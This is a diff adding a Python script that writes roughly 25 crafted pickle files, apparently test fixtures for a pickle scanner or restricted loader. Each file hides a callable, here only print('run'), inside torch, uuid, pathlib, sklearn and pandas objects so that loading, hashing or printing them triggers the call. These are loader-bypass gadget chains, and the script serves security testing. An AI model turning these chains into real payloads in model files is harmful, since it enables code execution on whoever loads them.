@@ -1,0 +1,64 @@
+# Something to call as an attribute of an object that stands where another one is expected: what is made, set, hashed or
+# printed on the way calls it.
+from pickle_asm import *
+
+
+def called(module, name, *arguments):
+    return stack_global(module, name) + args(*(raw(item) if isinstance(item, bytes) else item for item in arguments)) + REDUCE
+
+
+def pairs(items):
+    return EMPTY_DICT + MARK + b"".join(text(key) + (item if isinstance(item, bytes) else constant(item)) for key, item in items.items()) + SETITEMS
+
+
+def instance(module, name, items):
+    return stack_global(module, name) + EMPTY_TUPLE + NEWOBJ + pairs(items) + BUILD
+
+
+def namespace(**items):
+    return instance("types", "SimpleNamespace", items)
+
+
+def module(**items):
+    return instance("torch.nn.modules.linear", "Identity", {"_modules": {}, **items})
+
+
+def optimizer(name, **items):
+    return instance("torch.optim." + name.lower(), name, {"defaults": {}, "param_groups": [], "state": {}, **items})
+
+
+def attack(name, code):
+    save(name + ".pkl", proto(4) + code + STOP)
+
+
+LENT = called("functools", "partial", stack_global("builtins", "print"), "run")
+WINDOWS = stack_global("pathlib", "PureWindowsPath") + EMPTY_TUPLE + NEWOBJ + NONE + pairs(
+    {"_drv": "", "_root": "", "_parts": EMPTY_LIST + namespace(lower=LENT) + APPEND}) + TUPLE2 + BUILD
+MANY = {f"a{i}": i for i in range(40)}
+FUNCTION = stack_global("builtins", "print")
+
+attack("optimizer_state", optimizer("Adam", state=namespace(values=LENT)))
+attack("optimizer_state_bare", optimizer("Adam", state=namespace(values=FUNCTION)))
+attack("optimizer_group", optimizer("SGD", param_groups=EMPTY_LIST + namespace(setdefault=LENT) + APPEND))
+attack("optimizer_late_group", optimizer("SGD", param_groups=constant([{}] * 70) + namespace(setdefault=LENT) + APPEND))
+attack("optimizer_defaults", optimizer("AdamW", defaults=namespace(setdefault=LENT)))
+attack("optimizer_method", optimizer("Adam", _patch_step_function=LENT))
+attack("optimizer_many", optimizer("Adam", **MANY, _patch_step_function=LENT))
+attack("table_with_methods", instance("collections", "OrderedDict", {"values": LENT}))
+attack("estimator_state", stack_global("sklearn.svm._classes", "SVC") + EMPTY_TUPLE + NEWOBJ + namespace(pop=LENT) + BUILD)
+attack("path_as_key", EMPTY_DICT + WINDOWS + number(1) + SETITEM)
+attack("path_in_set", EMPTY_SET + MARK + WINDOWS + ADDITEMS)
+attack("module_printed", called("builtins", "str", module(extra_repr=LENT)))
+attack("module_printed_inside", called("builtins", "str", namespace(a=module(extra_repr=LENT))))
+attack("module_as_text", called("collections", "UserString", module(extra_repr=LENT)))
+attack("module_in_series", called("pandas", "Series", EMPTY_LIST + module(extra_repr=LENT) + APPEND))
+attack("identifier", called("uuid", "UUID", namespace(replace=LENT)))
+attack("identifier_of_function", called("uuid", "UUID", namespace(replace=FUNCTION)))
+attack("identifier_many", called("uuid", "UUID", namespace(**MANY, replace=LENT)))
+attack("identifier_keywords", called("uuid", "UUID", stack_global("types", "SimpleNamespace") + EMPTY_TUPLE + pairs({"replace": LENT}) + NEWOBJ_EX))
+attack("identifier_set_twice", called("uuid", "UUID", namespace(replace=LENT) + EMPTY_DICT + BUILD))
+attack("identifier_by_map", called("builtins", "list", called("builtins", "map", stack_global("uuid", "UUID"), EMPTY_LIST + namespace(replace=LENT) + APPEND)))
+attack("distribution", called("torch.distributions.categorical", "Categorical", namespace(dim=LENT)))
+attack("distribution_of_module", called("torch.distributions.categorical", "Categorical", module(dim=LENT)))
+attack("sequence", called("builtins", "list", instance("torch.nn.modules.container", "Sequential", {"_modules": namespace(values=LENT)})))
+attack("processes", called("scipy.optimize._optimize", "MapWrapper", 2))
